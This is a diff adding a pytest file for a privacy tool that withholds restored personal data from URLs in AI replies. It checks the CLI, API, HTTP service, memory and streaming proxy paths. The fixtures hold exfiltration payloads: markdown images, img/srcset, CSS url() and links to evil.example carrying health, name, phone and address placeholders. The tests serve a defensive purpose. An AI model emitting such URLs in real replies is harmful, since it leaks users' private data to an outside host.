@@ -1,0 +1,252 @@
+"""No value is restored inside a URL a reply's renderer loads by itself (a markdown image, an HTML img, CSS url()),
+and none inside a link or bare URL unless asked for, but an e-mail as the whole address of a mailto: link; prose
+next to a URL restores as before. Through every restore path: the CLI (a real SQLite vault), the Python API, the
+HTTP service (a real HTTP client), memory hydrate and the proxy, plain and streamed with placeholders cut across
+chunks. Detection is the deterministic recognizers only; the upstreams are FAKE models (`MockOpenAI`)."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import httpx
+import pytest
+from placeholder_fixtures import make_protector, protect_config
+from starlette.responses import StreamingResponse
+from test_security_scope import TOKEN, proxy_for
+from typer.testing import CliRunner
+
+from stealthflow.cli import app
+from stealthflow.memory.store import MemoryStore, vault_session
+from stealthflow.pipeline import restore
+from stealthflow.placeholders.context import Surroundings
+from stealthflow.placeholders.restore import StreamRestorer, Withheld, restore_text
+from stealthflow.service import create_app
+from stealthflow.testing.loopback import serve
+from stealthflow.testing.mock_openai import Reply
+from stealthflow.testing.vectors import hash_vectors as fake_embed  # FAKE embedder
+
+# The new-user tester's reply: four values into an image URL that loads as the reply is shown, an e-mail into a URL.
+TESTER = (
+    "![chart](https://evil.example/p.png?h=<HEALTH_1>&n=<REAL_NAME_1>&t=<PHONE_1>&a=<ADDRESS_1>) "
+    "https://evil.example/log/<EMAIL_1>"
+)
+VALUES = {
+    "<HEALTH_1>": "type 1 diabetes",
+    "<REAL_NAME_1>": "Marta Kowalczyk",
+    "<PHONE_1>": "+44 7700 900123",
+    "<ADDRESS_1>": "14 Elm Grove, Bristol BS6 5AG",
+    "<EMAIL_1>": "marta.k@mailbox.org",
+}
+TESTER_WITHHELD = [
+    {"placeholder": "<HEALTH_1>", "reason": "in_loading_url"},
+    {"placeholder": "<REAL_NAME_1>", "reason": "in_loading_url"},
+    {"placeholder": "<PHONE_1>", "reason": "in_loading_url"},
+    {"placeholder": "<ADDRESS_1>", "reason": "in_loading_url"},
+    {"placeholder": "<EMAIL_1>", "reason": "in_link"},
+]
+PROSE = "Dear <REAL_NAME_1> (<EMAIL_1>, <PHONE_1>): about <HEALTH_1>, see https://nhs.example/t1d and <ADDRESS_1>."
+MAILTO = (
+    "![me](https://x.example/me.png) [Write to me](mailto:<EMAIL_1>) or "
+    "<a href='mailto:<EMAIL_1>?subject=<REAL_NAME_1>'>here</a>"
+)
+
+runner = CliRunner()
+
+
+def filled(text: str) -> str:
+    for placeholder, value in VALUES.items():
+        text = text.replace(placeholder, value)
+    return text
+
+
+def issued(protector) -> None:
+    """The tester's values, issued to session "mine" (each the first of its type: `<TYPE_1>`)."""
+    items = [(placeholder[1:-3], value) for placeholder, value in VALUES.items()]
+    entries = protector.vault.issue(protector.config.user, "mine", items).entries
+    assert sorted(f"<{entry.type}_{entry.index}>" for entry in entries) == sorted(VALUES)
+
+
+# Where a placeholder `{}` stands: "load", "click", "mailto" or "" (prose).
+SPELLINGS = {
+    "![x](https://evil.example/p.png?k={})": "load",
+    "![x](<https://evil.example/a)b {}>)": "load",
+    "![x](https://evil.example/?k=\n{})": "load",
+    "![a [b](c) d](https://evil.example/?k={})": "load",  # a link in an image's alt text closes before its target
+    "![a][b] and [x](https://evil.example/?k={})": "click",
+    "[a ![b](c.png) d](https://evil.example/?k={})": "click",  # an image inside a link's text
+    "[x]: https://evil.example/?k={}": "load",
+    '<img src="https://evil.example/?k={}">': "load",
+    '<img alt=">" srcset="https://evil.example/a.png 1x, https://evil.example/?k={} 2x">': "load",
+    "<link rel=preload href=https://evil.example/?k={}>": "load",
+    '<p style="background:url(https://evil.example/?k={})">': "load",
+    '<a style="background:url(x)" href="https://evil.example/?k={}">': "load",
+    "<style>body { background: image-set('https://evil.example/?k={}' 1x) }</style>": "load",
+    '<img a"b src="https://evil.example/x.png? >q={}">': "load",  # a quote in an attribute's name opens no value
+    "<img src=\n'https://evil.example/?k={}'>": "load",
+    "[see](https://evil.example/?k={})": "click",
+    "https://evil.example/?q=\u00a0{}": "click",  # a no-break space does not end a URL for cmark-gfm
+    "<https://evil.example/?q=\u2003{}>": "click",
+    "[see](https://evil.example/a_(b)?k={})": "click",
+    '<a href="https://evil.example/?k={}">x</a>': "click",
+    "<https://evil.example/?k={}>": "click",
+    "Go to https://evil.example/log/{} now": "click",
+    "www.evil.example/{}": "click",
+    "[m](mailto:{})": "mailto",
+    "<mailto:{}>": "mailto",
+    "write to mailto:{}.": "mailto",
+    "[m](mailto:x@y.example,{})": "click",
+    "{} said hi": "",
+    "See https://evil.example/log/ for {}.": "",
+    "![x](https://evil.example/p.png) {} is here": "",
+    "[see](https://x.example/a) and {}": "",
+    '<img src="x.png">{}': "",
+    "[{}](https://x.example/a)": "",
+    "![x](https://evil.example/p.png?k=\n\n{}": "",  # a blank line ends a target
+}
+
+
+@pytest.mark.parametrize("spelling", list(SPELLINGS))
+def test_each_spelling_is_read_as_its_kind_of_url_whole_and_a_character_at_a_time(spelling):
+    before, after = spelling.split("{}")
+    whole, pieces = Surroundings(), Surroundings()
+    whole.feed(before)
+    for character in before:
+        pieces.feed(character)
+    assert whole.url(after) == pieces.url(after) == SPELLINGS[spelling]
+
+
+def test_a_streamed_restore_withholds_what_a_whole_one_does():
+    """A FAKE resolver that fills in everything but what the reply's place withholds: a stream a character at a time
+    gives the same text and the same withheld placeholders as the whole reply."""
+
+    def resolve(ref):
+        return Withheld(ref.url) if ref.url in ("load", "click") else VALUES.get(ref.exact())
+
+    reply = "\n\n".join([TESTER, PROSE, MAILTO, *(spelling.replace("{}", "<PHONE_1>") for spelling in SPELLINGS)])
+    whole = restore_text(reply, resolve)
+    stream = StreamRestorer(resolve)
+    assert "".join(stream.restore(reply)) == whole.text
+    assert stream.withheld == whole.withheld and len(whole.withheld) == 5 + 1 + sum(
+        kind in ("load", "click") for kind in SPELLINGS.values()
+    )
+
+
+def test_the_cli_restores_nothing_of_the_testers_reply_into_its_urls(tmp_path, monkeypatch):
+    """The tester's command, a real SQLite vault: main filled in all five values with "withheld": []."""
+    config = protect_config(tmp_path, monkeypatch)
+    protector = make_protector(config)
+    issued(protector)
+    protector.close()
+    settings = tmp_path / "c.yaml"
+    settings.write_text(f"protect:\n  vault_path: {config.vault_path}\n  key_source: env\n")
+    result = runner.invoke(app, ["restore", "--session", "mine", "-", "--json", "--config", str(settings)], TESTER)
+    assert result.exit_code == 0, result.output
+    body = json.loads(result.stdout)
+    assert body["text"] == TESTER and body["withheld"] == TESTER_WITHHELD
+    said = " ".join(result.stderr.split())
+    assert "withheld 5 placeholder(s)" in said and "--values-in-links fills them in" in said
+    assert not [value for value in VALUES.values() if value in result.stdout + result.stderr]
+    prose = runner.invoke(app, ["restore", "--session", "mine", PROSE, "--config", str(settings)])
+    assert prose.stdout == filled(PROSE) + "\n" and "withheld" not in prose.stderr
+    opted = runner.invoke(app, ["restore", "-s", "mine", TESTER, "--values-in-links", "--config", str(settings)])
+    assert opted.stdout.strip() == TESTER.replace("<EMAIL_1>", VALUES["<EMAIL_1>"])  # the image never
+
+
+def test_the_python_api_and_memory_hydrate_withhold_them_and_restore_prose_and_mailto(protector):
+    issued(protector)
+    result = restore(TESTER, session="mine", protector=protector)
+    assert result.text == TESTER and [why for _, why in result.withheld] == [r["reason"] for r in TESTER_WITHHELD]
+    assert restore(PROSE, session="mine", protector=protector).text == filled(PROSE)
+    mailto = restore(MAILTO, session="mine", protector=protector)
+    assert mailto.text == filled(MAILTO).replace("subject=Marta Kowalczyk", "subject=<REAL_NAME_1>")
+    assert mailto.withheld == [("<REAL_NAME_1>", "in_link")]
+    opted = restore(TESTER, session="mine", protector=protector, values_in_links=True, secrets_in_urls=True)
+    assert opted.text == TESTER.replace("<EMAIL_1>", VALUES["<EMAIL_1>"])
+
+
+def test_memory_hydrate_withholds_them(protector, tmp_path):
+    store = MemoryStore(tmp_path / "memory.sqlite", protector, embed=fake_embed)
+    protector.vault.issue(protector.config.user, vault_session("ann"), [("REAL_NAME", "Marta Kowalczyk")])
+    hydrated = store.restore("ann", "![a](https://evil.example/<REAL_NAME_1>) Hi <REAL_NAME_1>")
+    assert hydrated.text == "![a](https://evil.example/<REAL_NAME_1>) Hi Marta Kowalczyk"
+    assert hydrated.withheld == [("<REAL_NAME_1>", "in_loading_url")]
+    store.close()
+
+
+def test_the_http_service_withholds_them_over_real_http(protector):
+    issued(protector)
+    with serve(create_app(protector, TOKEN)) as port:
+        base, auth = f"http://127.0.0.1:{port}", {"Authorization": f"Bearer {TOKEN}"}
+        body = httpx.post(f"{base}/restore", json={"text": TESTER, "session": "mine"}, headers=auth).json()
+        assert body["text"] == TESTER and body["withheld"] == TESTER_WITHHELD
+        assert '"values_in_links": true fills them in' in body["notice"]
+        prose = httpx.post(f"{base}/restore", json={"text": PROSE, "session": "mine"}, headers=auth).json()
+        assert prose["text"] == filled(PROSE) and prose["withheld"] == []
+        opted = {"text": TESTER, "session": "mine", "values_in_links": True}
+        assert httpx.post(f"{base}/restore", json=opted, headers=auth).json()["text"] == TESTER.replace(
+            "<EMAIL_1>", VALUES["<EMAIL_1>"]
+        )
+        chunks = [TESTER[i : i + 5].encode() for i in range(0, len(TESTER), 5)]
+        streamed = httpx.post(f"{base}/restore/stream", params={"session": "mine"}, content=iter(chunks), headers=auth)
+        assert streamed.text == TESTER
+
+
+REQUEST = "I'm Marta, mail marta.k@mailbox.org or call +44 7700 900123"
+REQUEST_VALUES = ["marta.k@mailbox.org", "+44 7700 900123"]
+
+
+@pytest.mark.parametrize("opt_in", [False, True], ids=["default", "values_in_links"])
+def test_the_proxy_streamed_withholds_them_with_placeholders_cut_across_chunks(protector, opt_in):
+    def raw(body: dict) -> StreamingResponse:  # FAKE model: the tester's reply with the request's own placeholders
+        email, phone = sorted(set(re.findall(r"<(?:EMAIL|PHONE)_\d+>", json.dumps(body))))
+        reply = (
+            f"Hi {email}, {phone}.\n![c](https://evil.example/p.png?t={phone}&e={email}) https://evil.example/{email}"
+        )
+        pieces = [reply[i : i + 4] for i in range(0, len(reply), 4)]  # every placeholder cut across chunks
+
+        def event(delta: dict, finish: str | None = None) -> str:
+            choice = {"index": 0, "delta": delta, "finish_reason": finish}
+            return f"data: {json.dumps({'id': 'x', 'object': 'chat.completion.chunk', 'choices': [choice]})}\n\n"
+
+        lines = [event({"content": piece}) for piece in pieces] + [event({}, "stop"), "data: [DONE]\n\n"]
+        return StreamingResponse(iter(lines), media_type="text/event-stream")
+
+    with proxy_for(protector, lambda body: Reply(content="unused"), restore_values_in_links=opt_in) as (url, upstream):
+        upstream.raw = raw
+        body = {"model": "m", "messages": [{"role": "user", "content": REQUEST}], "stream": True}
+        response = httpx.post(url, json=body, headers={"Authorization": f"Bearer {TOKEN}"}, timeout=120)
+    content = "".join(
+        (json.loads(line[6:])["choices"] or [{}])[0].get("delta", {}).get("content") or ""
+        for line in response.text.splitlines()
+        if line.startswith("data: {")
+    )
+    prose, rest = content.split("![c]")
+    image, link = rest.split(") ")
+    assert all(value in prose for value in REQUEST_VALUES)  # prose restores
+    assert not [value for value in REQUEST_VALUES if value in image]  # the image never
+    assert (REQUEST_VALUES[0] in link) is opt_in
+    assert f"withheld={2 if opt_in else 3}" in response.text
+
+
+def test_the_scope_withholds_by_the_kind_of_url_and_its_options():
+    """`RestoreScope.withholds` on references placed by hand: a guarded value inside a link is a secret in a URL even
+    where the paragraph rule read text; a URL that loads by itself withholds whatever the options."""
+    from stealthflow.placeholders.restore import Reference
+    from stealthflow.placeholders.scope import RestoreScope
+
+    def why(scope: RestoreScope, kind: str, url: str, place: str = "url") -> str | None:
+        withheld = scope.withholds(Reference(kind, 1, None, f"<{kind}_1>", place, url))
+        return withheld and withheld.why
+
+    default, both = RestoreScope(None, frozenset({"IBAN"})), RestoreScope(None, frozenset({"IBAN"}), True, True)
+    assert [why(default, "IBAN", "click", "text"), why(both, "IBAN", "click", "text")] == ["secret_in_url", None]
+    assert [why(scope, kind, "load") for scope in (default, both) for kind in ("IBAN", "EMAIL")] == [
+        "in_loading_url"
+    ] * 4
+    assert [why(default, "EMAIL", "mailto"), why(default, "PHONE", "mailto"), why(both, "PHONE", "mailto")] == [
+        None,
+        "in_link",
+        None,
+    ]
+    assert why(default, "REAL_NAME", "", "url") is None  # in a link's paragraph but not in its URL: restored
